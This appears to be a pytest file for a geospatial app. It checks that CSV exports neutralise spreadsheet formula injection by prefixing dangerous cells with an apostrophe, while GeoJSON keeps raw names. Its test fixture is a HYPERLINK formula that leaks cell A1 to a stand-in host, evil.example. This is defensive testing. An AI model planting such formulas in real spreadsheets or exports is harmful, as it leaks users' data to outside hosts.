"""CSV injection (OWASP): names that a spreadsheet would run as formulas are neutralised.

District and facility names come from OpenStreetMap and user files; a district called
``=HYPERLINK(...)`` must reach every CSV as text (``'=HYPERLINK(...)``), while GeoJSON and
GeoPackage keep the real value.
"""

import json

import pandas as pd
import pytest

from geoapp import cli, export
from geoapp.sources.demo import demo_region

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_csv_safe_prefixes_text_cells_only():
    df = pd.DataFrame(
        {
            "name": [EVIL, "+1 cmd", "-x", "@SUM(A1)", "\tx", "\rx", "plain", "a=b", None],
            "value": [-1.5, 2, 3, 4, 5, 6, 7, 8, 9],
        }
    )
    out = export.csv_safe(df)
    assert out["name"].tolist()[:8] == [
        "'" + EVIL, "'+1 cmd", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "plain", "a=b",
    ]  # fmt: skip
    assert pd.isna(out["name"].iloc[8])  # a missing name stays missing
    assert out["value"].tolist() == df["value"].tolist()  # negative numbers are numbers
    assert df["name"].iloc[0] == EVIL  # the input is not changed
    clean = pd.DataFrame({"name": ["a", "b"]})
    assert export.csv_safe(clean) is clean


def test_write_csv_neutralises(tmp_path):
    path = export.write_csv(pd.DataFrame({"district": [EVIL, "Old Town"]}), tmp_path / "t.csv")
    text = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


@pytest.mark.slow
def test_formula_district_is_neutralised_in_bundle_csvs(tmp_path):
    bounds = demo_region().boundaries
    renamed = bounds.assign(
        district=[EVIL if i == 0 else d for i, d in enumerate(bounds["district"])]
    )
    src = tmp_path / "districts.geojson"
    src.write_text(renamed.to_json(), encoding="utf-8")
    out = tmp_path / "cov"
    rc = cli.main(
        ["coverage", "--region", "demo", "--boundaries", str(src), "--layer", "elderly_care",
         "--out", str(out), "-q"]
    )  # fmt: skip
    assert rc == 0
    summary = pd.read_csv(out / "summary.csv", encoding="utf-8-sig")
    groups = set(summary["group"].astype(str))
    assert "'" + EVIL in groups and EVIL not in groups
    # the GeoJSON keeps the real name
    demand = json.loads((out / "demand.geojson").read_text(encoding="utf-8"))
    assert any(f["properties"].get("district") == EVIL for f in demand["features"])


@pytest.mark.slow
def test_formula_district_is_neutralised_in_every_csv_and_verify_passes(tmp_path):
    bounds = demo_region().boundaries
    renamed = bounds.assign(
        district=[EVIL if i == 0 else d for i, d in enumerate(bounds["district"])]
    )
    src = tmp_path / "districts.geojson"
    src.write_text(renamed.to_json(), encoding="utf-8")
    region = ["--region", "demo", "--boundaries", str(src)]
    runs = {
        "cmp": ["compare", *region],
        "sup": ["supply", *region, "--layer", "elderly_care"],
        "rep": ["report", *region, "--no-pdf"],
    }
    for name, args in runs.items():
        assert cli.main([*args, "--out", str(tmp_path / name), "-q"]) == 0, name
    csvs = sorted(tmp_path.glob("*/*.csv")) + sorted(tmp_path.glob("rep/bundles/*/*.csv"))
    names = {p.name for p in csvs}
    assert {"zones.csv", "supply.csv", "compliance.csv", "summary.csv"} <= names
    for path in csvs:
        text = path.read_text(encoding="utf-8-sig")
        if EVIL[1:12] in text:  # the district appears in this table
            assert "'" + EVIL[:12] in text, path
        for line in text.splitlines():
            assert not any(cell.startswith("=") for cell in line.split(",")), (path, line)
    assert cli.main(["verify", str(tmp_path / "rep"), "-q"]) == 0
